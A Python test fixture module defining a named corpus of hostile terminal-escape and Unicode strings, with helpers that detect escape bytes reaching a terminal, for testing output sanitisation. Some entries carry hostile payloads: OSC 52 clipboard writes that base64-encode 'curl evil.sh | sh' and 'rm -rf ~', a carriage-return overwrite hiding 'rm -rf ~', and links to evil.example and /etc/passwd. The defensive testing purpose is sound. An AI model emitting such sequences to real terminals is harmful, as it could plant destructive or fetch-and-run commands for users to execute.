"""Hostile text for every output path, and the check that none of it reached a terminal raw.

Anything a model, a server or an imported file chose (titles, model names, reply text, tool names
and arguments, error bodies) may hold bytes a terminal acts on instead of printing: a clipboard
write (OSC 52), a new window title (OSC 0/2), a planted hyperlink (OSC 8), a cleared screen, a
fake end of a bracketed paste, a DCS or APC string, 8-bit C1 controls, or text the bidi algorithm
reorders. :data:`HOSTILE` is one named corpus of them for the CLI and UI tests alike, and
:func:`terminal_escapes` says what of that arrived on a terminal: ESC, a C1 control, NUL or BEL
(any one of them is enough to start, or end, a sequence).

Names are stable so a failing test can say which string got through (``HOSTILE["osc52_bel"]``).
"""

from __future__ import annotations

import re

ESC = "\x1b"
ST = ESC + "\\"  # string terminator, 7-bit form
BEL = "\x07"

MEGABYTE_LINE = "A" * (1 << 20) + f"{ESC}]52;c;bWVnYQ=={BEL} end of the long line"
"""One line of 1 MiB with a clipboard write at its end (what a renderer that gives up on long
lines, or truncates after sanitising, would let through)."""

HOSTILE: dict[str, str] = {
    # --- C0 controls ---------------------------------------------------------------------------
    "nul": "before\x00after",
    "bel": f"ring{BEL}ring",
    "backspace_overwrite": "safe\x08\x08\x08\x08evil",
    "lone_cr_overwrite": "rm -rf ~\rls -l   ",
    "vt_ff": "vertical\x0btab\x0cform feed",
    "shift_out_in": "\x0egraphics charset\x0f",
    "del": "delete\x7fme",
    "bare_esc": f"lonely {ESC} escape",
    "full_reset": f"{ESC}c reset the terminal",
    "save_restore_cursor": f"{ESC}7moved{ESC}8",
    "all_c0": "".join(chr(code) for code in range(0x20)),
    # --- C1 controls (8-bit) -------------------------------------------------------------------
    "c1_csi_clear": "\x9b2J\x9bH cleared by 8-bit CSI",
    "c1_osc_title": "\x9d0;pwned\x9c",
    "c1_dcs": "\x90$q\"p\x9c",
    "c1_nel": "next\x85line",
    "all_c1": "".join(chr(code) for code in range(0x80, 0xA0)),
    # --- OSC -----------------------------------------------------------------------------------
    "osc52_bel": f"{ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g={BEL}copied",
    "osc52_st": f"{ESC}]52;p;cm0gLXJmIH4={ST}copied",
    "osc0_title": f"{ESC}]0;you have been pwned{BEL}",
    "osc2_title": f"{ESC}]2;window title{ST}",
    "osc8_link": f"{ESC}]8;;https://evil.example/login{ST}click me{ESC}]8;;{ST}",
    "osc7_cwd": f"{ESC}]7;file://evil.example/tmp{BEL}",
    "osc1337_file": f"{ESC}]1337;File=name=eA==;inline=1:eA=={BEL}",
    "osc4_palette": f"{ESC}]4;1;rgb:00/00/00{BEL}invisible red",
    # --- CSI -----------------------------------------------------------------------------------
    "csi_clear_screen": f"{ESC}[2J{ESC}[H screen cleared",
    "csi_sgr_colour": f"{ESC}[31;1mred bold{ESC}[0m",
    "csi_hidden_text": f"{ESC}[8mhidden{ESC}[28m",
    "csi_cursor_up_erase": f"{ESC}[1A{ESC}[2Kline above erased",
    "csi_alt_screen": f"{ESC}[?1049h alternate screen",
    "csi_mouse_tracking": f"{ESC}[?1000h{ESC}[?1006h",
    "csi_device_status_query": f"{ESC}[6n{ESC}[c{ESC}[21t",
    "csi_resize": f"{ESC}[8;1;1t",
    # --- DCS, APC, PM, SOS ---------------------------------------------------------------------
    "dcs_decrqss": f"{ESC}P$q\"p{ST}",
    "dcs_sixel": f"{ESC}Pq#0;2;0;0;0#0~~@@vv@@~~{ST}",
    "apc": f"{ESC}_Gf=100;AAAA{ST}",
    "pm_sos": f"{ESC}^private{ST}{ESC}Xstring{ST}",
    # --- bracketed paste -----------------------------------------------------------------------
    "paste_end": f"{ESC}[201~echo pwned\n",
    "paste_start_end": f"{ESC}[200~inside{ESC}[201~",
    "paste_mode_off": f"{ESC}[?2004l",
    # --- Unicode that changes what is seen -----------------------------------------------------
    "rtl_override": "access = \u202eresu\u202c // admin",
    "bidi_isolates": "\u2066left\u2069 \u2067right\u2069 \u2068first\u2069 \u202aLRE\u202c",
    "line_separators": "one\u2028two\u2029three",
    "zwj_family": "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 family",
    "flags_and_tags": "\U0001f1fa\U0001f1f3 \U0001f3f4\U000e0067\U000e0062\U000e0073\U000e0063"
                      "\U000e0074\U000e007f",
    "combining_stack": "Z" + "\u0336\u0337\u0338\u0310\u0311\u0312" * 20 + "algo",
    "zero_width": "in\u200bvis\u200cible\u200d\ufeff",
    "wide_cjk": "你好，世界 こんにちは 안녕하세요",
    "replacement_char": "\ufffd\ufffe bad bytes",
    # --- Rich / Textual markup -----------------------------------------------------------------
    "markup_close": "[/]",
    "markup_click": "[@click=app.quit]quit[/]",
    "markup_red": "[red]red[/red]",
    "markup_link": "[link=file:///etc/passwd]passwords[/link]",
    "markup_unclosed": "[bold",
    "markup_escaped": "\\[not a tag]",
    # --- several at once, and one that is long ----------------------------------------------
    "mixed": f"title{ESC}]0;x{BEL}\x9b31m[red]\u202e\x00{ESC}[201~end",
    "megabyte_line": MEGABYTE_LINE,
}

TERMINAL_ACTIVE = frozenset({0x00, 0x07, 0x1B, *range(0x80, 0xA0)})
"""Code points a terminal must never receive from outside text: NUL, BEL, ESC and the C1
controls (as characters: their UTF-8 bytes 0xC2 0x80-0x9F)."""


def short(limit: int = 10_000) -> dict[str, str]:
    """The corpus without entries longer than ``limit`` (for argv, titles shown one per line)."""
    return {name: text for name, text in HOSTILE.items() if len(text) <= limit}


def terminal_escapes(data: bytes) -> list[str]:
    """What of ``data`` (bytes read from a terminal) a terminal would have acted on.

    Empty when the output is safe. Each finding names the code point and shows some context.
    Undecodable bytes count as findings too: a raw 0x9B byte is CSI to an 8-bit terminal.
    """
    text = data.decode("utf-8", errors="surrogateescape")
    found: list[str] = []
    for index, char in enumerate(text):
        code = ord(char)
        if code in TERMINAL_ACTIVE or 0xDC80 <= code <= 0xDCFF:
            context = text[max(0, index - 30): index + 30]
            found.append(f"U+{code:04X} at {index}: {context!r}")
            if len(found) >= 20:
                break
    return found


# What a screen may show: printable text, newlines between rows. Everything else a terminal would
# act on (C0 but newline, DEL, C1) or that reorders text (explicit bidi controls).
FORBIDDEN_ON_SCREEN = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def forbidden_characters(drawn: str) -> list[str]:
    """The characters in a screenshot's text that must never reach a terminal, as reprs."""
    return sorted({repr(c) for c in FORBIDDEN_ON_SCREEN.findall(drawn)})
